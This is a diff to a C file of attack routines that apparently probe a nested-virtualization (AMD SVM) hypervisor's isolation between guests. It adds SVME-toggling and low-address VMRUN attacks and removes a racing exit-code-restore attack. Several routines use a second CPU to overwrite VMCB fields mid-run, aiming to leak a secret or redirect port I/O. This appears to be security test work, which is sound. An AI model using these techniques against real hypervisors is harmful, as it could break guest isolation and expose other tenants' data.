@@ -1,11 +1,8 @@
 /* SPDX-License-Identifier: GPL-2.0-or-later */
-/*
- * L1 tries to have the interceptor take L2 for L1, so that L2's port I/O falls to L1, or L1 for L2, so that its own
- * reaches the console. What L1 is told of it print() says as `ioio=`.
- */
+/* L1 tries to have the interceptor take L2 for L1, so that L2's port I/O falls to L1: told as `ioio=`. */
 #include "svm.h"
 
-enum { COM1 = 0x3f8, COM1_LSR = 0x3fd, COM1_SCR = 0x3ff, OWN_SCRATCH = 0x77 };
+enum { COM1 = 0x3f8, COM1_LSR = 0x3fd };
 static const char secret[] = "<the secret>";
 
 /* From the start of the code that set_up_late() put there. */
@@ -32,18 +29,9 @@ static void run_and_tell(struct l2 *l2) {
 }
 
 static struct vmcb *volatile target;
-static volatile bool running, stop;
-static volatile uint64_t chances; /* how often the other CPU came in time to write */
-
-/* The other CPU is at it, before L2 runs. */
-static void start(void (*function)(void)) {
-    second_start(function);
-    while (!running)
-        ;
-}
 
 static void overwrite_exit_code(void) {
-    for (running = true; !stop;)
+    for (second_running = true; !second_stop;)
         ((volatile struct vmcb *)target)->exit_code = 0;
     for (;;)
         __asm__ volatile("hlt");
@@ -55,7 +43,7 @@ ATTACK(exit_code_overwritten) {
 
     l2_say(l2, "L2 begins\n");
     target = l2->vmcb;
-    start(overwrite_exit_code);
+    second_start_and_wait(overwrite_exit_code);
     set_up_late(l2, 20000000);
     run_and_tell(l2);
 }
@@ -69,12 +57,33 @@ ATTACK(poisoned_block) {
     l2_say(l2, "L2 begins\n");
     l2_new_vmcb(l2);
     target = l2->vmcb;
-    start(overwrite_exit_code);
+    second_start_and_wait(overwrite_exit_code);
     set_up_late(l2, TURNS);
     run_and_tell(l2);
-    stop = true;
+    second_stop = true;
     l2->vmcb = users;
     rewind_late(l2, 1);
+    print("users_");
+    run_and_tell(l2);
+}
+
+/* An L2 of L1's own, which shares the user's code, runs without SVME for a moment, as if it were L1 that had left it.
+ */
+ATTACK(svme_toggled) {
+    enum { TOGGLE = L2_CODE + 0x800 };
+    struct l2 *l2 = l2_new();
+    struct vmcb *users = l2->vmcb;
+
+    l2_say(l2, "L2 begins\n");
+    L2_LOAD(l2, l2_secret);
+    memcpy(l2->memory + TOGGLE, l2_toggle_svme, (size_t)(l2_toggle_svme_end - l2_toggle_svme));
+    l2_new_vmcb(l2);
+    l2->vmcb->intercept_1 &= ~INTERCEPT_MSR;
+    l2->vmcb->rip = TOGGLE;
+    l2->regs.r[RBX] = L2_CODE;
+    run_and_tell(l2);
+    l2->vmcb = users;
+    l2->vmcb->rip = L2_CODE;
     print("users_");
     run_and_tell(l2);
 }
@@ -93,6 +102,19 @@ ATTACK(stale_task_register) {
     __asm__ volatile("vmload %0" : : "a"(other) : "memory");
     HIGH((stub_function *)(uintptr_t)stub)((uintptr_t)l2->vmcb, COM1_LSR);
     print("\nexit=%x info1=%x\n", l2->vmcb->exit_code, l2->vmcb->exit_info_1);
+}
+
+/* VMRUN where 32-bit code could have it, whose operand would be EAX: L2 is not to be believed, but not L1's either.
+ */
+ATTACK(low_vmrun) {
+    struct l2 *l2 = l2_new();
+
+    l2_say(l2, "L2 begins\n");
+    set_up_late(l2, 1000);
+    l2->vmcb->intercept_1 &= ~INTERCEPT_IOIO;
+    l2->vmcb->rsp = l2->regs.r[RSP];
+    vm_enter(&l2->regs, (uintptr_t)l2->vmcb);
+    print("\nexit=%x\n", l2->vmcb->exit_code);
 }
 
 static void copy_to_read_only(const struct vmcb *vmcb, void *where) {
@@ -132,28 +154,6 @@ ATTACK(addr32_vmrun) {
     print("\nended=1\n");
 }
 
-/* VMRUN at two linear addresses: at the second one it faults, and L1's handler was never run. It names the user's
- * nested table, as if for one more vCPU. */
-ATTACK(aliased_vmrun) {
-    enum { GENERAL_PROTECTION = 13, MISALIGNED = 8, N_CR3 = offsetof(struct vmcb, n_cr3) };
-    extern uint8_t gp_handler[], gp_handler_end[];
-    extern volatile uint8_t gp_scratch;
-    const uint64_t second = 5ull << 30;
-    uint64_t *pointers = pml4 + 512;
-    uint8_t *code = memcpy(pages(1), stub, (size_t)(stub_end - stub)), *bad = pages(2);
-    struct l2 *l2 = l2_new();
-
-    l2_say(l2, "L2 begins\n");
-    pointers[second >> 30] = pointers[0];
-    L2_LOAD(l2, l2_nothing);
-    HIGH((stub_function *)(uintptr_t)code)((uintptr_t)l2->vmcb, COM1_LSR);
-    out8(COM1_SCR, OWN_SCRATCH);
-    *(uint64_t *)(bad + MISALIGNED + N_CR3) = l2->vmcb->n_cr3;
-    trap_set(GENERAL_PROTECTION, (uintptr_t)memcpy(pages(1), gp_handler, (size_t)(gp_handler_end - gp_handler)));
-    ((stub_function *)((uintptr_t)code + second))((uintptr_t)bad + MISALIGNED, COM1_LSR);
-    print("\nscratch=%x\n", (uint64_t)gp_scratch);
-}
-
 static void map_in_l2(struct l2 *l2, uint64_t linear, uint64_t physical) {
     uint64_t *table = (uint64_t *)(l2->memory + L2_TABLES + 3 * PAGE);
 
@@ -190,62 +190,4 @@ ATTACK(exception_at_vmrun) {
     l2->vmcb->cr3 = root;
     l2->vmcb->rip = at;
     run_and_tell(l2);
-}
-
-/* Writes back what stood in EXITCODE while L2 ran, as soon as the #VMEXIT has overwritten it. */
-static void restore_exit_code(void) {
-    uint64_t before = 0;
-
-    for (running = true; !stop;) {
-        uint64_t now = ((volatile struct vmcb *)target)->exit_code;
-
-        if (now != EXIT_VMMCALL && now) {
-            before = now;
-        } else if (before) {
-            ((volatile struct vmcb *)target)->exit_code = before;
-            before = 0;
-            chances++;
-        }
-    }
-    for (;;)
-        __asm__ volatile("hlt");
-}
-
-/* L1's own port I/O right after VMRUN, in code that was never run, while another CPU does that; then the same code
- * once more, without the other CPU. What reaches the console instead of L1's own port is an 'X' for each try. */
-enum { STUB_STEP = 128 };
-
-static uint64_t run_stubs(struct l2 *l2, uint8_t *code, uint64_t *tries, uint64_t wanted) {
-    uint64_t foreign = 0, i; /* scratch registers that were not L1's own */
-
-    L2_LOAD(l2, l2_pause);
-    for (i = 0; i < *tries && chances < wanted; i++) {
-        l2->vmcb->rip = L2_CODE;
-        foreign += HIGH((stub_function *)(uintptr_t)(code + i * STUB_STEP))((uintptr_t)l2->vmcb, 0x80) != OWN_SCRATCH;
-        while (!(in8(COM1_LSR) & 0x20))
-            ;
-    }
-    *tries = i;
-    return foreign;
-}
-
-ATTACK(exit_code_restored) {
-    uint64_t tries = option("tries", 1000), wanted = option("chances", 1000);
-    uint8_t *code = pages(tries * STUB_STEP / PAGE + 1);
-    struct l2 *l2 = l2_new();
-
-    for (uint64_t i = 0; i < tries; i++)
-        memcpy(code + i * STUB_STEP, stub, (size_t)(stub_end - stub));
-    l2_say(l2, "L2 begins\n");
-    out8(COM1_SCR, OWN_SCRATCH);
-    target = l2->vmcb;
-    start(restore_exit_code);
-    print("\nforeign=%u\n", run_stubs(l2, code, &tries, wanted));
-    stop = true;
-    wait_ticks(1);
-    l2_say(l2, "\nL2 again\n");
-    print("chances=%u\n", chances);
-    chances = 0;
-    print("\nforeign_again=%u\n", run_stubs(l2, code, &tries, UINT64_MAX));
-    print("\ntries=%u\n", tries);
 }
